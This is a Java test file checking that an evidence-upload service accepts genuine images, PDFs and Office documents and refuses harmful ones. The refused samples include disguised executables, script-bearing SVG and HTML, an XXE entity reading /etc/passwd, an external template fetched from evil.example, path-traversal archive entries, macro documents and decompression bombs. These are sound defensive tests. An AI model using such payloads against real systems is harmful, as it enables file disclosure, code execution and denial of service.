package bihuan.evidence;

import static bihuan.evidence.Samples.upload;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import bihuan.Refusal;
import bihuan.evidence.cleaning.FileFormat;
import bihuan.evidence.cleaning.Impurity;
import java.io.IOException;
import java.io.InputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.atomic.AtomicLong;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** What is taken, what is turned away, and that a name is believed in nothing. */
class ExaminationTest {

  @TempDir Path data;

  private Examination examination;

  @BeforeEach
  void open() {
    examination = new Examination(new Store(data), 1);
  }

  @ParameterizedTest
  @MethodSource("acceptable")
  void aFileIsTakenForWhatItContains(String name, byte[] content, FileFormat media) {
    var stored = examination.of(upload(name, content));

    assertThat(stored.findings().media()).isEqualTo(media);
    assertThat(stored.size()).isEqualTo(content.length);
    assertThat(data.resolve("files").resolve(place(stored.original()))).hasBinaryContent(content);
  }

  static Stream<Arguments> acceptable() {
    return Stream.of(
        arguments("queue.jpg", Pictures.jpeg(), FileFormat.JPEG),
        arguments("queue", Pictures.jpeg(), FileFormat.JPEG),
        arguments("queue.jpg", Pictures.png(), FileFormat.PNG),
        arguments("queue.gif", Pictures.gif(), FileFormat.GIF),
        arguments("queue.webp", Pictures.webp(), FileFormat.WEBP),
        arguments("notice.PDF", Pdfs.pdf(), FileFormat.PDF),
        arguments("notice.docx", OfficeFiles.docx(), FileFormat.DOCX),
        arguments("ledger.xlsx", OfficeFiles.xlsx(), FileFormat.XLSX),
        arguments("talk.pptx", OfficeFiles.pptx(), FileFormat.PPTX),
        arguments("notice.doc", OfficeFiles.doc(), FileFormat.DOC),
        arguments("ledger.xls", OfficeFiles.compound("Workbook", new byte[512]), FileFormat.XLS),
        arguments(
            "talk.ppt", OfficeFiles.compound("PowerPoint Document", new byte[0]), FileFormat.PPT));
  }

  @ParameterizedTest
  @MethodSource("unacceptable")
  void whatMayDoHarmOrCannotBeReadIsRefusedByName(String name, byte[] content, String key) {
    var refusal = catchThrowableOfType(Refusal.class, () -> examination.of(upload(name, content)));

    assertThat(refusal.key()).isEqualTo(key);
    assertThat(refusal.details()).contains(name);
    assertThat(filesLeft()).isEmpty();
  }

  static Stream<Arguments> unacceptable() {
    return Stream.of(
        arguments("empty.jpg", new byte[0], "evidence.empty"),
        arguments("photo.jpg", OfficeFiles.docx(), "evidence.disguised"),
        arguments("photo.exe", Pictures.jpeg(), "evidence.disguised"),
        arguments("notice.pdf", Pictures.png(), "evidence.disguised"),
        arguments("photo.jpg", text("MZ\u0090\0 program"), "evidence.program"),
        arguments("photo.png", text("#!/bin/sh\nrm"), "evidence.program"),
        arguments("drawing.svg", text("<svg onload='x()'/>"), "evidence.markup"),
        arguments("photo.jpg", text("\n<!DOCTYPE html><script>"), "evidence.markup"),
        arguments("photo.heic", text("\0\0\0\u0018ftypheic"), "evidence.heic"),
        arguments("notes.txt", text("plain words"), "evidence.type"),
        arguments("notice.ofd", ofd("OFD.xml"), "evidence.ofd"),
        arguments("notice.zip", ofd("ofd.xml"), "evidence.ofd"),
        arguments("notice.odt", ofd("mimetype"), "evidence.openDocument"),
        arguments("late.pdf", text("-".repeat(1030) + "%PDF-1.7\n"), "evidence.type"),
        arguments("all.zip", OfficeFiles.zip(Map.of("a.txt", new byte[9])), "evidence.archive"),
        arguments("torn.jpg", torn(Pictures.jpeg()), "evidence.cut"),
        arguments("torn.png", torn(Pictures.png()), "evidence.cut"),
        arguments("torn.gif", Arrays.copyOf(Pictures.gif(), 20), "evidence.broken"),
        arguments("torn.docx", torn(OfficeFiles.docx()), "evidence.broken"),
        arguments("torn.pdf", text("%PDF-1.7\nnothing"), "evidence.broken"),
        arguments("torn.doc", Arrays.copyOf(OfficeFiles.doc(), 600), "evidence.broken"),
        arguments("bomb.png", Pictures.pixelBomb(), "evidence.pixels"),
        arguments("locked.pdf", Pdfs.lockedPdf("secret"), "evidence.encrypted"),
        arguments("locked.docx", OfficeFiles.doc("EncryptedPackage"), "evidence.encrypted"),
        arguments("macro.doc", OfficeFiles.doc("Macros"), "evidence.macros"),
        arguments("macro.xls", macroSheet(), "evidence.macros"),
        arguments("macro.ppt", macroShow(), "evidence.macros"),
        arguments("parcel.doc", OfficeFiles.doc("\u0001Ole10Native"), "evidence.embedded"),
        arguments("macro.docx", word("word/vbaProject.bin", new byte[9]), "evidence.macros"),
        arguments(
            "macro.docm",
            word(
                "[Content_Types].xml",
                text("<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>")),
            "evidence.macros"),
        arguments(
            "parcel.docx", word("word/embeddings/a.bin", text("MZ....")), "evidence.embedded"),
        arguments(
            "fetching.docx",
            word(
                "word/_rels/settings.xml.rels",
                text(
                    OfficeFiles.rels(
                        OfficeFiles.external(
                            "rId1", "attachedTemplate", "https://evil.example/a.dotm")))),
            "evidence.embedded"),
        arguments(
            "entity.docx",
            word(
                "word/footnotes.xml",
                text(
                    "<?xml version='1.0'?><!-- --><!DOCTYPE x [<!ENTITY e SYSTEM"
                        + " 'file:///etc/passwd'>]><x>&e;</x>")),
            "evidence.entities"),
        arguments(
            "entity.vml.docx",
            word("word/drawing.vml", text("<!DOCTYPE x SYSTEM 'http://evil.example/x'><x/>")),
            "evidence.entities"),
        arguments("astray.docx", word("../../etc/passwd", text("x")), "evidence.broken"),
        arguments("bomb.docx", word("word/zeros.xml", new byte[64 << 20]), "evidence.bomb"),
        arguments("bomb.pdf", pdfBomb(), "evidence.bomb"));
  }

  @Test
  void aFileBeyondTheLimitIsNotEvenReadToItsEnd() {
    var read = new AtomicLong();
    var endless =
        new InputStream() {
          @Override
          public int read() {
            read.incrementAndGet();
            return 1;
          }
        };

    assertThatThrownBy(() -> examination.of(new Upload("film.jpg", endless)))
        .isInstanceOfSatisfying(
            Refusal.class,
            it -> {
              assertThat(it.ground()).isEqualTo(Refusal.Ground.TOO_LARGE);
              assertThat(it.details()).containsExactly("film.jpg", 1);
            });
    assertThat(read.get()).isLessThan(2 << 20);
    assertThat(filesLeft()).isEmpty();
  }

  @Test
  void theSameContentIsStoredOnce() {
    var first = examination.of(upload("a.doc", OfficeFiles.doc()));
    var stored = filesLeft().size();

    assertThat(examination.of(upload("b.doc", OfficeFiles.doc()))).isEqualTo(first);
    assertThat(filesLeft()).hasSize(stored);
  }

  @Test
  void aPictureStandsAsItWasSeenThroughTheCamera() {
    var findings = examination.of(upload("a.jpg", Pictures.photo(6))).findings();

    assertThat(findings.width()).isEqualTo(48);
    assertThat(findings.height()).isEqualTo(64);
  }

  @Test
  void pagesAreCounted() {
    assertThat(examination.of(upload("a.pdf", Pdfs.pdf())).findings().pages()).isEqualTo(2);
  }

  @Test
  void anOldOfficeFileHasNoCleanedCopy() {
    assertThat(examination.of(upload("a.doc", OfficeFiles.doc())).clean()).isNull();
  }

  @ParameterizedTest
  @MethodSource("kept")
  void whatCannotBeCleanedIsKeptOrLeftOutAndSaysWhy(
      byte[] content, String name, Impurity impurity) {
    var stored = examination.of(upload(name, content));

    assertThat(stored.impurity()).isEqualTo(impurity);
    assertThat(stored.clean() == null).isEqualTo(impurity != null && impurity.keepsBack());
  }

  static Stream<Arguments> kept() throws IOException {
    return Stream.of(
        arguments(OfficeFiles.docx(), "a.docx", null),
        arguments(Pictures.jpeg(), "a.jpg", null),
        arguments(OfficeFiles.doc(), "a.doc", Impurity.OLD_OFFICE),
        arguments(OfficeFiles.docxWith("image9.emf", text("\1\0\0\0")), "a.docx", Impurity.DRAWING),
        arguments(OfficeFiles.docxWith("image9.wmf", text("\u00d7")), "a.docx", Impurity.DRAWING),
        arguments(OfficeFiles.docxWith("image9.svg", text("<svg/>")), "a.docx", Impurity.DRAWING),
        arguments(OfficeFiles.docxWith("image9.png", text("no PNG")), "a.docx", Impurity.DRAWING),
        arguments(
            word("word/document.xml", text("<d><w:OLEObject xmlns:w='w'/></d>")),
            "a.docx",
            Impurity.OBJECT),
        arguments(
            word("word/header1.xml", text("<h><w:instrText xmlns:w='w'>AUTHOR</w:instrText></h>")),
            "a.docx",
            Impurity.HIDDEN),
        arguments(Pdfs.pdfInLayers(false), "a.pdf", Impurity.HIDDEN),
        arguments(Pdfs.pdf(), "a.pdf", null),
        arguments(Pdfs.pdfBy("包永福"), "a.pdf", Impurity.LEFT_OUT));
  }

  @Test
  void aNameCannotPretendOrLead() {
    assertThat(upload("..\\..\\a\u202egpj.exe\n", new byte[0]).name()).isEqualTo("agpj.exe");
    assertThat(Upload.encoded("%E7%85%A7%E7%89%87+1.jpg", null).name()).isEqualTo("照片+1.jpg");
  }

  private static String place(String hash) {
    return hash.substring(0, 2) + "/" + hash.substring(2, 4) + "/" + hash;
  }

  private java.util.List<Path> filesLeft() {
    try (var files = Files.walk(data)) {
      return files.filter(Files::isRegularFile).toList();
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }

  private static byte[] word(String part, byte[] content) {
    var parts = new TreeMap<>(OfficeFiles.word());
    parts.put(part, content);
    return OfficeFiles.zip(parts);
  }

  private static byte[] ofd(String main) {
    var parts = new TreeMap<String, byte[]>();
    parts.put(main, text("<ofd:OFD xmlns:ofd='http://www.ofdspec.org/2016'/>"));
    parts.put("Doc_0/Document.xml", text("<ofd:Document/>"));
    return OfficeFiles.zip(parts);
  }

  private static byte[] text(String text) {
    return text.getBytes(StandardCharsets.ISO_8859_1);
  }

  private static byte[] torn(byte[] content) {
    return Arrays.copyOf(content, content.length - 40);
  }

  private static byte[] macroSheet() {
    return OfficeFiles.compound(
        "Workbook",
        little(
            it ->
                it.putShort((short) 0x85)
                    .putShort((short) 8)
                    .putInt(0)
                    .put((byte) 0)
                    .put((byte) 1)));
  }

  private static byte[] macroShow() {
    return OfficeFiles.compound(
        "PowerPoint Document",
        little(
            it ->
                it.putShort((short) 0xf)
                    .putShort((short) 1000)
                    .putInt(20)
                    .putShort((short) 2)
                    .putShort((short) 0x3ff)
                    .putInt(12)
                    .putInt(1)
                    .putInt(1)
                    .putInt(2)));
  }

  private static byte[] little(UnaryOperator<ByteBuffer> writing) {
    return writing.apply(ByteBuffer.allocate(64).order(ByteOrder.LITTLE_ENDIAN)).array();
  }

  private static byte[] pdfBomb() {
    return Samples.written(
        out -> {
          out.write(text("%PDF-1.7\n1 0 obj<</Filter/FlateDecode>>stream\n"));
          var deflater = new java.util.zip.DeflaterOutputStream(out);
          for (var i = 0; i < 160; i++) {
            deflater.write(new byte[1 << 20]);
          }
          deflater.finish();
          out.write(text("\nendstream endobj"));
        });
  }
}
